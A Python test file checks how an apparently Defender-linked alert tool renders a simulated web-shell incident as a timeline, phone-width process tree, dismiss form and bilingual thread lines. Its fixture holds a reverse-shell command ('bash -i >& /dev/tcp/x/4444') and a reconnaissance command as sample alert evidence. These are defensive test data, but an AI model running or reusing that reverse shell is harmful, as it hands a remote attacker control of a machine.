"""The story and the forms say what the layouts say; odd alerts still have a story."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, cast

import pytest
from msgspec import structs

from approvals.deeds import Deed, DeedKind, Subject
from approvals.entry import SEKISHO
from defender.alert import Entity
from defender.file_change_decode import FileChange
from defender.xdr_decode import Comment, XdrAlert
from feeds.cases import NOBODY
from handlers.locale import Locale
from handlers.views import alert_words as say
from handlers.views.alert_forms import dismiss_form
from handlers.views.alert_story import StoryFacts, story
from handlers.views.alert_story_text import story_text
from handlers.views.alert_thread import change_line, deed_line
from handlers.views.alert_tree import COLUMNS, process_tree
from handlers.views.blocks import View
from tests.handlers.views import alert_samples as sample
from tests.handlers.views import samples
from tests.handlers.views.checks import texts
from tests.schema import assert_valid_view

PROCESSES = (
    Entity("process", "/usr/sbin/php-fpm8.1", {"pid": "1207", "account": "www-data"}),
    Entity(
        "process",
        "/bin/sh",
        {
            "pid": "4410",
            "command_line": 'sh -c "id; uname -a"',
            "started_at": "2026-11-25T09:20:00.1234567Z",
        },
        0,
    ),
    Entity(
        "process", "/bin/bash", {"pid": "4412", "command_line": "bash -i >& /dev/tcp/x/4444"}, 1
    ),
)
FILE = FileChange(
    key="c1",
    table="MDCFileIntegrityMonitoringEvents",
    act="touched",
    path="/var/www/html/up.php",
    changed_at=sample.at(18, 19),
)


def facts(**changes: object) -> StoryFacts:
    alert = structs.replace(
        sample.SHELL,
        entities=(*PROCESSES, *sample.SHELL.entities[2:]),
        remediation=("Isolate the machine.", "Remove the web shell."),
        incident_id="29",
    )
    given: dict[str, object] = {
        "view": sample.view(alert, case=sample.TAKEN),
        "of_incident": (structs.replace(sample.SHELL, key="other"),),
        "changes": (FILE,),
        "has_changes": True,
    }
    return StoryFacts(**(given | changes))  # type: ignore[arg-type]


@pytest.mark.proves("D4")
def test_steps_stand_in_order_of_time() -> None:
    said = "\n".join(texts(story(facts(), samples.locale("en"))["blocks"]))
    steps = [
        "JIT: port 22 opened for @yamada, approved by @sato",
        "File created or modified: ",
        "Process started: ",
        "This alert: Possible reverse shell",
        "@sato took it",
    ]
    places = [said.index(step) for step in steps]
    assert places == sorted(places)
    assert "1 more alert in incident 29: " in said
    assert "Isolate the machine." in said


@pytest.mark.proves("D4")
def test_story_is_valid_in_both_languages(locale: Locale) -> None:
    assert_valid_view(story(facts(), locale))


@pytest.mark.proves("D4", "E3")
def test_story_leads_to_the_file_changes_where_there_are_some(locale: Locale) -> None:
    given = facts()
    wanted = f"alert:{say.reference(given.view.alert.key)}.0"
    assert ("fim_details", wanted) in _buttons(story(given, locale))
    without = _buttons(story(facts(changes=(), has_changes=False), locale))
    assert "fim_details" not in dict(without)


def _buttons(view: View) -> list[tuple[str, str]]:
    found = [block for block in cast(list[Any], view["blocks"]) if block["type"] == "actions"]
    return [(one["action_id"], one["value"]) for block in found for one in block["elements"]]


@pytest.mark.proves("D4")
def test_graph_adds_what_it_knows() -> None:
    xdr = XdrAlert(xdr_id="x", owner="sato@example.com", comments=(Comment("Looks bad"),))
    said = texts(story(facts(xdr=xdr), samples.locale("en"))["blocks"])
    assert "*In Defender XDR*" in said
    assert "sato@example.com" in said
    assert any("Microsoft Graph" in line for line in said)


@pytest.mark.proves("D4")
def test_story_as_text_says_the_same() -> None:
    text = story_text(facts(), samples.locale("en"))
    for part in ("Possible reverse shell", "└ sh  4410", "1. Isolate the machine.", "2026-11-25"):
        assert part in text


@pytest.mark.proves("D4", "C047")
def test_tree_fits_a_phone_and_survives_circles() -> None:
    tree = process_tree(PROCESSES)
    assert tree.splitlines()[0] == "php-fpm8.1  1207  www-data"
    assert tree.splitlines()[1] == '└ sh  4410  sh -c "id; uname -a"'
    assert all(len(line) <= COLUMNS for line in tree.splitlines())
    circle = (Entity("process", "a", {}, 1), Entity("process", "b", {}, 0))
    assert len(process_tree(circle).splitlines()) == 2


@pytest.mark.proves("D5", "D11")
@pytest.mark.parametrize("language", ["en", "ja"])
def test_dismiss_form_says_what_the_layout_says(language: str, shared: Path) -> None:
    path = shared / "ux" / "feeds" / f"alert-dismiss-form.{language}.json"
    wanted = json.loads(path.read_text("utf-8"))["view"]
    ours = dismiss_form(sample.SHELL, samples.locale("ja" if language == "ja" else "en"))
    assert sorted(texts(ours)) == sorted(texts(wanted))


def deed(kind: DeedKind, **more: object) -> Deed:
    return Deed(kind=kind, subject=Subject("alert:k"), **more)  # type: ignore[arg-type]


@pytest.mark.proves("D3", "D6")
@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("en", "@sato took it. Owner before: nobody."),
        ("ja", "@sato さんが担当になりました（それまでの担当者：なし）。"),
    ],
)
def test_thread_says_who_had_it_before(language: str, line: str) -> None:
    locale = samples.locale("ja" if language == "ja" else "en")
    said = deed_line(deed(DeedKind.TAKEN), samples.SATO, NOBODY, sample.NAMES, locale)
    assert said == line


@pytest.mark.proves("C117")
def test_thread_says_what_the_portal_opened() -> None:
    locale = samples.locale("en")
    said = deed_line(deed(DeedKind.REOPENED), SEKISHO, NOBODY, {}, locale)
    assert said == "Set to active in the Defender portal. Card reopened."


@pytest.mark.proves("D6")
def test_thread_names_the_change_and_no_more() -> None:
    locale = samples.locale("en")
    before = structs.replace(sample.SHELL, severity="Medium", entities=sample.SHELL.entities[:4])
    said = change_line(before, sample.SHELL, locale)
    assert said == (
        "Defender raised the severity: Medium to High. "
        "Defender added evidence: file `/var/www/html/up.php`. Card updated."
    )
    assert change_line(sample.SHELL, sample.SHELL, locale) is None
    taken = structs.replace(sample.SHELL, status="InProgress")
    assert change_line(sample.SHELL, taken, locale) is None
